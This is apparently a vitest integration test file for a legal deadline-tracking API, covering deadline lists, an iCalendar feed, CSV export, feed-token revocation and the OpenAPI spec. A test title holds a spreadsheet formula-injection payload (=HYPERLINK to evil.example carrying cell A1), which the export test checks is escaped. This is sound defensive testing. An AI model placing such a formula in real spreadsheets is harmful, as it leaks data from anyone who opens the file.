/**
 * The team's status views through the HTTP API: the deadline list (order, buckets, filters), the
 * calendar feed (RFC 5545, stable UIDs, SEQUENCE bumps on a move), the CSV export (formula
 * escaping), personal feed tokens (create, use, revoke) and the OpenAPI document against the
 * routes the server really serves.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Deadline } from '../../core/model';
import { API_CONTRACT } from '../support/api-contract';
import type { LocalStack } from '../../local/runtime';
import { validIntake } from '../support/fixtures';
import { moveDeadline, seedItem } from '../support/seed';
import { api, testStack, type Api } from '../support/stack';
import { commitPrepared } from '../support/commit';

let stack: LocalStack;
let http: Api;
let jordanToken: string;
const seeded: Record<string, { itemId: string; deadline: Deadline }> = {};
let foiaId: string;

// Friday 6 March 2026, 1 pm in Washington.
const CLOCK = '2026-03-06T18:00:00Z';
const NASTY_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click") opposition, "quoted"';

beforeAll(async () => {
  stack = await testStack({ clockStart: CLOCK });
  http = api(stack);
  jordanToken = await signIn('jordan.lee@example.org');

  const foia = await http.post('/api/requests', validIntake({ agency: 'IRS' }));
  expect(foia.status).toBe(201);
  foiaId = (await foia.json()).id;

  const overdue = await seedItem({ kind: 'filing', title: 'Joint status report', rule: 'court_order.fixed', trigger: '2026-02-20', params: { date: '2026-03-05' }, watchers: ['lead-counsel'] });
  const notice = await seedItem({
    kind: 'disclosure_notice', title: 'IRS notice: intends to share ITIN addresses with ICE', agency: 'IRS',
    rule: 'frcp6.hours', trigger: '2026-03-06T13:30:00-05:00', params: { hours: 24 }, watchers: ['lead-counsel', 'paralegal'],
    summary: 'Batch of 40,000 addresses',
  });
  const opposition = await seedItem({
    kind: 'filing', title: NASTY_TITLE, rule: 'lcvr7b.opposition', trigger: '2026-03-06', owner: 'associate', watchers: ['associate'],
  });
  for (const [name, s] of Object.entries({ overdue, notice, opposition })) seeded[name] = { itemId: s.item.id, deadline: s.deadline };
});
afterAll(() => stack?.stop());

const get = (path: string, token: string | undefined = stack.teamToken) => http.get(path, token);

function unfold(ics: string): string[] {
  return ics.replace(/\r\n[ \t]/g, '').split('\r\n').filter(Boolean);
}

function vevents(ics: string): Record<string, string>[] {
  const out: Record<string, string>[] = [];
  let current: Record<string, string> | undefined;
  let depth = 0;
  for (const line of unfold(ics)) {
    if (line === 'BEGIN:VEVENT') current = {};
    else if (line === 'END:VEVENT') {
      out.push(current!);
      current = undefined;
    } else if (line === 'BEGIN:VALARM') depth++;
    else if (line === 'END:VALARM') depth--;
    else if (current && depth === 0) {
      const i = line.indexOf(':');
      current[line.slice(0, i)] = line.slice(i + 1);
    }
  }
  return out;
}

/** RFC 4180 parser, enough for the test: quoted fields with doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    } else cell += c;
  }
  return rows;
}

describe('GET /api/deadlines', () => {
  it('lists open deadlines soonest first with their bucket and item summary', async () => {
    const res = await get('/api/deadlines');
    expect(res.status).toBe(200);
    const body = await res.json();
    expect(Date.parse(body.now)).toBeGreaterThanOrEqual(Date.parse(CLOCK));
    const list = body.deadlines as { id: string; dueInstant: string; bucket: string; item: Record<string, unknown>; receipt: unknown[] }[];
    const instants = list.map((d) => d.dueInstant);
    expect(instants).toEqual([...instants].sort());
    const byItem = new Map(list.map((d) => [d.item.id, d]));
    expect(byItem.get(seeded.overdue!.itemId)?.bucket).toBe('overdue');
    expect(byItem.get(seeded.notice!.itemId)?.bucket).toBe('week');
    expect(byItem.get(seeded.notice!.itemId)?.dueInstant).toBe('2026-03-09T17:30:00.000Z');
    expect(byItem.get(seeded.opposition!.itemId)?.bucket).toBe('later');
    expect(list[0]!.item.id).toBe(seeded.overdue!.itemId);
    expect(byItem.get(foiaId)?.item).toMatchObject({ kind: 'foia', agency: 'IRS', matterId: 'public-intake', phase: 'awaiting_response', collection: 'requests', owner: 'public' });
    expect(byItem.get(seeded.notice!.itemId)?.item).toMatchObject({ title: expect.stringContaining('IRS notice'), kind: 'disclosure_notice', collection: 'notices', phaseLabel: expect.any(String) });
    expect(list.every((d) => d.receipt.length > 0)).toBe(true);
  });

  it('limits to a window (overdue ones always included)', async () => {
    const body = await (await get('/api/deadlines?within=P7D')).json();
    expect(body.within).toBe('P7D');
    expect(body.deadlines.map((d: { item: { id: string } }) => d.item.id).sort()).toEqual([seeded.overdue!.itemId, seeded.notice!.itemId].sort());
    const hours = await (await get('/api/deadlines?within=PT12H')).json();
    expect(hours.deadlines.map((d: { item: { id: string } }) => d.item.id)).toEqual([seeded.overdue!.itemId]);
  });

  it('filters by matter, kind, agency (any case) and person (id or email)', async () => {
    const ids = async (q: string) => ((await (await get(`/api/deadlines?${q}`)).json()).deadlines as { item: { id: string } }[]).map((d) => d.item.id);
    expect(await ids('matter=public-intake')).toEqual([foiaId]);
    expect(new Set(await ids('kind=filing'))).toEqual(new Set([seeded.overdue!.itemId, seeded.opposition!.itemId]));
    expect(new Set(await ids('agency=irs'))).toEqual(new Set([foiaId, seeded.notice!.itemId]));
    expect(await ids('agency=irs&kind=foia')).toEqual([foiaId]);
    // Public requests land in the public-intake matter, which the whole team watches.
    expect(new Set(await ids('person=associate'))).toEqual(new Set([seeded.opposition!.itemId, foiaId]));
    expect(new Set(await ids('person=jordan.lee%40example.org'))).toEqual(new Set([seeded.opposition!.itemId, foiaId]));
    expect(new Set(await ids('person=paralegal'))).toEqual(new Set([seeded.notice!.itemId, foiaId]));
    expect(await ids('matter=no-such-matter')).toEqual([]);
  });

  it.each([
    ['within=P1M', 'within'],
    ['within=14d', 'within'],
    ['within=P0D', 'within'],
    ['kind=lawsuit', 'kind'],
  ])('answers 400 naming the field for %s', async (q, field) => {
    const res = await get(`/api/deadlines?${q}`);
    expect(res.status).toBe(400);
    expect(res.headers.get('content-type')).toMatch(/application\/problem\+json/);
    expect((await res.json()).errors).toEqual([{ field, message: expect.any(String) }]);
  });
});

describe('GET /api/calendar.ics', () => {
  it('is a valid RFC 5545 calendar with one event per open deadline', async () => {
    const res = await get('/api/calendar.ics');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/calendar; charset=utf-8');
    const ics = await res.text();
    expect(ics.startsWith('BEGIN:VCALENDAR\r\n')).toBe(true);
    expect(ics.endsWith('END:VCALENDAR\r\n')).toBe(true);
    expect(ics.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    for (const line of ics.split('\r\n')) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
    const events = vevents(ics);
    const open = (await (await get('/api/deadlines')).json()).deadlines as { id: string }[];
    expect(events).toHaveLength(open.length);
    expect(new Set(events.map((e) => e.UID)).size).toBe(events.length);
    for (const e of events) {
      expect(e.DTSTAMP).toMatch(/^\d{8}T\d{6}Z$/);
      expect(e.SEQUENCE).toMatch(/^\d+$/);
    }
    const notice = events.find((e) => e.UID === `${seeded.notice!.deadline.id}@docketwatch`)!;
    expect(notice['DTSTART;TZID=America/New_York']).toBe('20260309T133000');
    expect(unfold(ics)).toContain('BEGIN:VTIMEZONE');
    const opp = events.find((e) => e.UID === `${seeded.opposition!.deadline.id}@docketwatch`)!;
    expect(opp['DTSTART;VALUE=DATE']).toBe('20260320');
    expect(opp['DTEND;VALUE=DATE']).toBe('20260321');
    expect(opp.SUMMARY).toContain('\\,'); // the comma in the title is escaped
    expect(opp.DESCRIPTION).toContain('How this date was computed');
    expect(ics).toContain('BEGIN:VALARM');
  });

  it('keeps the UID and raises SEQUENCE when the deadline is moved (superseded)', async () => {
    const uid = `${seeded.opposition!.deadline.id}@docketwatch`;
    const before = vevents(await (await get('/api/calendar.ics')).text());
    const was = before.find((e) => e.UID === uid)!;
    expect(was.SEQUENCE).toBe('0');

    const moved = await moveDeadline(seeded.opposition!.itemId, seeded.opposition!.deadline, '2026-03-27');
    seeded.opposition!.deadline = moved;

    const after = vevents(await (await get('/api/calendar.ics')).text());
    expect(after).toHaveLength(before.length);
    const now = after.find((e) => e.UID === uid)!;
    expect(now['DTSTART;VALUE=DATE']).toBe('20260327');
    expect(Number(now.SEQUENCE)).toBeGreaterThan(Number(was.SEQUENCE));
    expect(after.some((e) => e.UID === `${moved.id}@docketwatch`)).toBe(false);

    const again = await moveDeadline(seeded.opposition!.itemId, moved, '2026-04-03');
    seeded.opposition!.deadline = again;
    const third = vevents(await (await get('/api/calendar.ics')).text()).find((e) => e.UID === uid)!;
    expect(third['DTSTART;VALUE=DATE']).toBe('20260403');
    expect(Number(third.SEQUENCE)).toBeGreaterThan(Number(now.SEQUENCE));

    // The month calendar asks for the records the moves replaced too; the list does not get them.
    type Listed = { id: string; due: string; status: string };
    const mine = (list: Listed[] & { itemId?: string }[]) => (list as (Listed & { itemId: string })[]).filter((d) => d.itemId === seeded.opposition!.itemId);
    const plain = mine((await (await get('/api/deadlines')).json()).deadlines);
    expect(plain.map((d) => [d.due, d.status])).toEqual([['2026-04-03', 'open']]);
    const all = mine((await (await get('/api/deadlines?include=missed,superseded')).json()).deadlines);
    expect(all.map((d) => d.status).sort()).toEqual(['open', 'superseded', 'superseded']);
    expect(all.map((d) => d.due)).toContain('2026-03-27');
    expect((await get('/api/deadlines?include=superseded,everything')).status).toBe(400);
  });

  it('applies the same filters as the deadline list', async () => {
    const events = vevents(await (await get('/api/calendar.ics?kind=disclosure_notice')).text());
    expect(events.map((e) => e.UID)).toEqual([`${seeded.notice!.deadline.id}@docketwatch`]);
  });
});

describe('GET /api/export.csv', () => {
  it('exports every item and deadline, with formula cells escaped and RFC 4180 quoting', async () => {
    const res = await get('/api/export.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="docketwatch-2026-03-0\d\.csv"$/);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 byte order mark, for Excel
    const text = bytes.subarray(3).toString('utf8');
    const rows = parseCsv(text);
    const [header, ...data] = rows;
    expect(header).toContain('item_id');
    const col = (name: string) => header!.indexOf(name);
    const opp = data.filter((r) => r[col('item_id')] === seeded.opposition!.itemId);
    // The original, the first move (both superseded) and the open one.
    expect(opp.map((r) => r[col('deadline_status')]).sort()).toEqual(['open', 'superseded', 'superseded']);
    for (const r of opp) expect(r[col('title')]).toBe(`'${NASTY_TITLE}`);
    for (const r of data) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(data.some((r) => r[col('item_id')] === foiaId && r[col('rule')] === 'foia.response')).toBe(true);
    expect(text).toContain('\r\n');
  });
});

describe('personal calendar feeds', () => {
  it('creates a secret URL that serves the calendar without a header, and stops after revocation', async () => {
    const created = await http.post('/api/feeds', { label: 'Phone' }, { authorization: `Bearer ${jordanToken}` });
    expect(created.status).toBe(201);
    const feed = await created.json();
    expect(feed.id).toMatch(/^[0-9A-Z]{26}$/);
    expect(feed.url).toBe(`${stack.url}${feed.path}`);
    const token = feed.path.split('/')[3] as string;

    const res = await fetch(feed.url);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/calendar; charset=utf-8');
    const teamIcs = vevents(await (await get('/api/calendar.ics')).text());
    expect(vevents(await res.text()).map((e) => e.UID).sort()).toEqual(teamIcs.map((e) => e.UID).sort());

    // The feed token reads only the feed: as a bearer token it opens nothing.
    for (const path of ['/api/deadlines', '/api/calendar.ics', '/api/export.csv', '/api/matters']) {
      expect((await get(path, token)).status).toBe(401);
    }

    // Someone else cannot revoke it (and learns nothing: 404).
    const other = await fetch(`${stack.url}/api/feeds/${feed.id}`, { method: 'DELETE', headers: { authorization: `Bearer ${await signIn('sam.okafor@example.org')}` } });
    expect(other.status).toBe(404);
    expect((await fetch(feed.url)).status).toBe(200);

    const revoked = await fetch(`${stack.url}/api/feeds/${feed.id}`, { method: 'DELETE', headers: { authorization: `Bearer ${jordanToken}` } });
    expect(revoked.status).toBe(204);
    expect((await fetch(feed.url)).status).toBe(404);
    const twice = await fetch(`${stack.url}/api/feeds/${feed.id}`, { method: 'DELETE', headers: { authorization: `Bearer ${jordanToken}` } });
    expect(twice.status).toBe(404);
  });

  it('answers unknown, tampered and malformed feed tokens alike with 404', async () => {
    const feed = await (await http.post('/api/feeds', {}, { authorization: `Bearer ${stack.teamToken}` })).json();
    const token = feed.path.split('/')[3] as string;
    const [id, secret] = token.split('.') as [string, string];
    const flipped = secret.slice(0, -1) + (secret.endsWith('A') ? 'B' : 'A');
    const answers = await Promise.all(
      [`${id}.${flipped}`, `01ARZ3NDEKTSV4RRFFQ69G5FAV.${secret}`, 'not-a-token', `${id}`].map((t) => fetch(`${stack.url}/api/feeds/${encodeURIComponent(t)}/calendar.ics`)),
    );
    const bodies = (await Promise.all(answers.map((a) => a.json()))) as { detail: string }[];
    expect(answers.map((a) => a.status)).toEqual([404, 404, 404, 404]);
    expect(new Set(bodies.map((b) => b.detail)).size).toBe(1);
  });

  it('lets an admin revoke anyone’s feed, and applies a feed’s filter', async () => {
    const feed = await (await http.post('/api/feeds', { matter: 'public-intake' }, { authorization: `Bearer ${jordanToken}` })).json();
    const events = vevents(await (await fetch(feed.url)).text());
    expect(events.length).toBeGreaterThan(0);
    expect(events.every((e) => e.CATEGORIES === 'foia')).toBe(true);
    const res = await fetch(`${stack.url}/api/feeds/${feed.id}`, { method: 'DELETE', headers: { authorization: `Bearer ${stack.teamToken}` } });
    expect(res.status).toBe(204);
  });

  it('refuses unknown fields', async () => {
    const res = await http.post('/api/feeds', { owner: 'someone-else' }, { authorization: `Bearer ${jordanToken}` });
    expect(res.status).toBe(400);
    expect((await res.json()).errors).toEqual([{ field: 'owner', message: expect.any(String) }]);
  });
});

async function signIn(email: string): Promise<string> {
  const res = await fetch(`${stack.url}/local-idp/sign-in`, { method: 'POST', body: JSON.stringify({ email }) });
  return ((await res.json()) as { token: string }).token;
}

describe('missed deadlines', () => {
  it('leave the open list when the workflow marks them missed, and come back as overdue with include=missed', async () => {
    const { getItemBundle } = await import('../../functions/lib/item-store');
    const { deadlinesPassed } = await import('../../core/changes');
    const bundle = (await getItemBundle(seeded.overdue!.itemId))!;
    await commitPrepared(deadlinesPassed(bundle.item, bundle.deadlines, new Date(CLOCK))!);

    const plain = (await (await get('/api/deadlines')).json()).deadlines as { item: { id: string } }[];
    expect(plain.some((d) => d.item.id === seeded.overdue!.itemId)).toBe(false);
    const withMissed = (await (await get('/api/deadlines?include=missed&within=P7D')).json()).deadlines as { item: { id: string }; status: string; bucket: string }[];
    expect(withMissed[0]).toMatchObject({ item: { id: seeded.overdue!.itemId }, status: 'missed', bucket: 'overdue' });
    expect((await get('/api/deadlines?include=everything')).status).toBe(400);
    // The calendar shows what is still to come only.
    const ics = await (await get('/api/calendar.ics')).text();
    expect(ics).not.toContain(`${seeded.overdue!.deadline.id}@docketwatch`);
  });
});

describe('GET /api/openapi.json', () => {
  const samplePath = (path: string) => path.replace(/\{(\w+)\}/g, (_, p: string) => (p === 'id' ? '01ARZ3NDEKTSV4RRFFQ69G5FAV' : `sample-${p}`));

  it('is public OpenAPI 3.1 and describes exactly the routes of the API contract', async () => {
    const res = await http.get('/api/openapi.json');
    expect(res.status).toBe(200);
    const doc = await res.json();
    expect(doc.openapi).toBe('3.1.0');
    const documented = Object.entries(doc.paths as Record<string, Record<string, unknown>>).flatMap(([p, ops]) => Object.keys(ops).map((m) => `${m.toUpperCase()} ${p}`));
    expect(documented.sort()).toEqual(Object.keys(API_CONTRACT).sort());
    const ops = Object.values(doc.paths as Record<string, Record<string, { operationId: string; security: unknown[]; responses: Record<string, unknown> }>>).flatMap((o) => Object.values(o));
    expect(new Set(ops.map((o) => o.operationId)).size).toBe(ops.length);
    const undocumented = Object.keys(API_CONTRACT).filter((key) => {
      const [m, p] = key.split(' ') as [string, string];
      return doc.paths[p][m.toLowerCase()]['x-undocumented'];
    });
    expect(undocumented, 'describe these routes in functions/lib/api-doc/document.ts').toEqual([]);
    for (const [key, { who }] of Object.entries(API_CONTRACT)) {
      const [method, path] = key.split(' ') as [string, string];
      const op = doc.paths[path][method.toLowerCase()];
      if (who === 'team' || who === 'admin') expect(op.security).toEqual([{ teamJwt: who === 'admin' ? ['admin'] : [] }]);
      if (who === 'public') expect(op.security).toEqual([]);
      if (who !== 'public') expect(Object.keys(op.responses)).toContain('401');
      // Every $ref resolves.
      for (const ref of JSON.stringify(op).matchAll(/"\$ref":"#\/components\/schemas\/(\w+)"/g)) expect(doc.components.schemas[ref[1]!]).toBeDefined();
    }
  });

  it('matches what the local server really serves: every operation of the contract is routed, others are not', async () => {
    const paths = new Map<string, Set<string>>();
    for (const key of Object.keys(API_CONTRACT)) {
      const [m, p] = key.split(' ') as [string, string];
      paths.set(p, (paths.get(p) ?? new Set()).add(m.toLowerCase()));
    }
    for (const [path, methods] of paths) {
      const ops = Object.fromEntries([...methods].map((m) => [m, true]));
      for (const method of ['get', 'post', 'put', 'patch', 'delete']) {
        // Without a token: a routed team operation meets the authorizer (401); a public one its handler.
        const res = await fetch(`${stack.url}${samplePath(path)}`, {
          method: method.toUpperCase(),
          headers: { 'content-type': 'application/json' },
          ...(method === 'get' || method === 'delete' ? {} : { body: '{}' }),
        });
        const body = await res.text();
        const routerNotFound = res.status === 404 && body === JSON.stringify({ message: 'Not Found' });
        expect(routerNotFound, `${method.toUpperCase()} ${path}`).toBe(!(method in ops));
      }
    }
  });
});
